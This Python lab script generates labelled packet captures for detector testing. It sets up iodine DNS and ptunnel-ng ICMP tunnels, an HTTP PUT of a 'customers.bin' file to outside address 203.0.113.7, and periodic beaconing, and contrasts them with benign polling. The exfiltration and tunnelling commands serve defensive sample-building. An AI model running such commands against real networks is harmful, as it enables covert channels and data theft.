"""Data that leaves in what does not look like data: DNS, ICMP, uploads, calls home; and the regular traffic that resembles them."""

import random
import time

import services
from lab import Capture, Lab
from office import Office
from registry import Sample, scene

OUTSIDE = '203.0.113.7'


def with_outside(lab: Lab, people: tuple[str, ...] = ('alice',), delay_ms: float = 4):
    """An office whose server side plays the Internet: the files host also has a documentation address (RFC 5737), reached by the router."""
    office = Office(lab, people, ('web', 'files'), delay_ms=delay_ms)
    office.files.address(f'{OUTSIDE}/32')
    office.router.quiet('ip', 'route', 'add', f'{OUTSIDE}/32', 'via', '10.20.0.20')
    return office


@scene(Sample(
    'dns-tunnel-iodine.pcap', 'iodine carries IP packets in DNS questions: pings and a small download below t.example.net.',
    'A handshake that tries what the way lets through, then NULL records and long unique names, both ways.',
    ['`dns-tunnel` below example.net, client 192.168.10.21 (ATT&CK T1071.004)', 'no `beaconing`'],
    ['dns.qry.type == 10 | NULL records', 'dns.qry.name.len > 60 | long names, each used once']))
def dns_tunnel_iodine(lab: Lab) -> None:
    office = with_outside(lab)
    server = office.files
    server.quiet('sh', '-c', 'mkdir -p /dev/net; [ -e /dev/net/tun ] || mknod /dev/net/tun c 10 200')
    server.spawn('iodined', '-f', '-c', '-P', services.PASSWORD, '172.27.0.1/24', 't.example.net', show='iodined -f -c -P *** 172.27.0.1/24 t.example.net')
    server.wait_for_port(53)
    with Capture(office.switch, 'dns-tunnel-iodine.pcap', 'tcpdump', '-i', 'br0'):
        office.alice.spawn('iodine', '-f', '-P', services.PASSWORD, '-r', '-m', '400', '-I', '2', '10.20.0.20', 't.example.net', show='iodine -f -P *** -r -m 400 10.20.0.20 t.example.net')
        for _ in range(40):
            time.sleep(0.5)
            if '172.27.0.' in office.alice.quiet('ip', '-4', 'address'):
                break
        office.alice.run('ping', '-c', '5', '-i', '0.4', '-s', '200', '172.27.0.1')
        office.alice.run('ping', '-c', '3', '-i', '0.4', '-s', '600', '172.27.0.1')


@scene(Sample(
    'icmp-tunnel.pcap', 'ptunnel-ng carries a TCP connection in pings.',
    'A web page fetched through ptunnel-ng: echo requests and replies whose payloads differ in size and content, in both directions.',
    ['`icmp-tunnel` between 192.168.10.21 and 10.20.0.20 (ATT&CK T1095)', 'no `icmp-flood`'],
    ['icmp.type == 8 && data.len > 100 | what no ping would carry', 'icmp | the conversation']))
def icmp_tunnel(lab: Lab) -> None:
    office = with_outside(lab)
    services.web(office.web)
    # As its manual says: the kernel must not answer the pings that the proxy answers.
    office.files.sysctl('net.ipv4.icmp_echo_ignore_all', '1')
    office.files.spawn('ptunnel-ng', '-r10.20.0.10', '-R80', show='ptunnel-ng -r10.20.0.10 -R80')
    time.sleep(0.5)
    with Capture(office.switch, 'icmp-tunnel.pcap', 'tcpdump', '-i', 'br0'):
        office.alice.spawn('ptunnel-ng', '-p10.20.0.20', '-l8000', '-r10.20.0.10', '-R80', show='ptunnel-ng -p10.20.0.20 -l8000 -r10.20.0.10 -R80')
        time.sleep(1)
        office.alice.run('curl', '-s', '-o', '/dev/null', '--max-time', '60', '-H', 'Host: www.example.com',
                         *[f'http://127.0.0.1:8000/{page}' for page in ('about.html', 'logo.png', 'index.html', 'photo.png')])


@scene(Sample(
    'upload-outside.pcap', 'A kiosk sends twelve megabytes to an address outside, in one HTTP PUT.',
    'curl puts a file of random bytes to 203.0.113.7; the answer is one line. Packets are cut after 96 bytes to keep the sample small, so their contents cannot be judged.',
    ['`data-exfiltration`: 192.168.10.24 to 203.0.113.7 (ATT&CK T1048)', 'no `beaconing`, no `udp-flood`'],
    ['ip.dst == 203.0.113.7 && tcp.len > 0 | what leaves']))
def upload_outside(lab: Lab) -> None:
    office = with_outside(lab, ('kiosk', 'alice'), delay_ms=1)
    services.web(office.web)
    office.web.address(f'{OUTSIDE}/32')
    office.files.quiet('ip', 'address', 'del', f'{OUTSIDE}/32', 'dev', 'eth0')
    office.router.quiet('ip', 'route', 'replace', f'{OUTSIDE}/32', 'via', '10.20.0.10')
    # Jumbo frames, or the sample would be a megabyte.
    for host in lab.hosts.values():
        for link in host.quiet('ls', '/sys/class/net').split():
            if link != 'lo' and link != 'br0':
                host.quiet('ip', 'link', 'set', link, 'mtu', '16000')
    secret = lab.folder / 'customers.bin'
    secret.write_bytes(random.Random(21).randbytes(UPLOAD))
    with Capture(office.switch, 'upload-outside.pcap', 'tcpdump', '-i', 'br0', '-s', '96'):
        office.kiosk.run('curl', '-s', '-o', '/dev/null', 'http://www.example.com/about.html')
        office.kiosk.run('curl', '-s', '-o', '/dev/null', '-T', str(secret), f'http://{OUTSIDE}/upload/customers.bin',
                         show=f'curl -T customers.bin http://{OUTSIDE}/upload/customers.bin   # 12 MB')
        office.alice.run('curl', '-s', '-o', '/dev/null', 'http://www.example.com/report.bin')


UPLOAD = 12_000_000


@scene(Sample(
    'beacon-http.pcap', 'A kiosk calls home every four seconds, with a little jitter, for three minutes.',
    'Forty-five small HTTP requests to one address outside, each in a connection of its own; the answers are short and the same.',
    [f'`beaconing`: 192.168.10.24 to {OUTSIDE} (ATT&CK T1071)', 'no `http-flood`, no `brute-force`'],
    ['http.request | the calls; look at their times']))
def beacon_http(lab: Lab) -> None:
    office = with_outside(lab, ('kiosk', 'alice'), delay_ms=3)
    services.web(office.web)
    office.web.address(f'{OUTSIDE}/32')
    office.files.quiet('ip', 'address', 'del', f'{OUTSIDE}/32', 'dev', 'eth0')
    office.router.quiet('ip', 'route', 'replace', f'{OUTSIDE}/32', 'via', '10.20.0.10')
    chance = random.Random(3)
    with Capture(office.switch, 'beacon-http.pcap', 'tcpdump', '-i', 'br0', seconds=240):
        for n in range(45):
            office.kiosk.run('curl', '-s', '-o', '/dev/null', '-A', 'Mozilla/5.0 (Windows NT 10.0; Win64; x64)', f'http://{OUTSIDE}/login')
            if n % 12 == 5:
                office.alice.run('curl', '-s', '-o', '/dev/null', 'http://www.example.com/about.html')
            time.sleep(4 + chance.uniform(-0.2, 0.2))


@scene(Sample(
    'polling.pcap', 'Ordinary regularity: two clocks ask for the time every 16 seconds, a monitor checks four hosts every ten, a program asks for updates every 20. Near miss of beaconing and of sweeps.',
    'Four minutes: NTP polls (chronyd at its shortest interval), a ping and a TCP check of four hosts that answer, HTTP requests with If-None-Match that are answered 304.',
    ['no `beaconing` of medium severity or higher, and none of NTP', 'perhaps `beaconing` of low severity: the monitor and the update check are as regular as a beacon, inside, and the finding names both as what else it could be', 'no `host-sweep`, no `port-scan`'],
    ['ntp | the clocks', 'icmp.type == 8 | the monitor', 'http.response.code == 304 | nothing new']))
def polling(lab: Lab) -> None:
    office = Office(lab, ('alice', 'bob', 'carol', 'printer'), ('web', 'files'), delay_ms=2)
    services.web(office.web)
    services.shell(office.files)
    services.clock(office.router, '192.168.10.0/24')
    with Capture(office.switch, 'polling.pcap', 'tcpdump', '-i', 'br0', seconds=300):
        for person in (office.bob, office.carol):
            config = lab.folder / f'client-{person.name}.conf'
            config.write_text(f'server 192.168.10.1 minpoll 4 maxpoll 4\ncmdport 0\nbindcmdaddress /run/chrony/{person.name}.sock\npidfile /run/chrony-{person.name}.pid\n')
            person.spawn('chronyd', '-x', '-d', '-u', 'root', '-f', str(config), show='chronyd -x -d   # server 192.168.10.1 minpoll 4 maxpoll 4')
        start = time.monotonic()
        for n in range(24):
            for host in ('10.20.0.10', '10.20.0.20', '192.168.10.22', '192.168.10.1'):
                office.alice.run('ping', '-c', '1', '-W', '1', host)
            office.alice.run('curl', '-s', '-o', '/dev/null', 'http://10.20.0.10/about.html', '-H', 'Host: www.example.com', show='curl -s http://10.20.0.10/about.html   # TCP check')
            if n % 2 == 0:
                office.bob.run('curl', '-s', '-o', '/dev/null', '-A', 'updater/3.1', '--etag-compare', str(lab.folder / 'etag'), '--etag-save', str(lab.folder / 'etag'), 'http://www.example.com/products.json')
            time.sleep(max(0, start + 10 * (n + 1) - time.monotonic()))
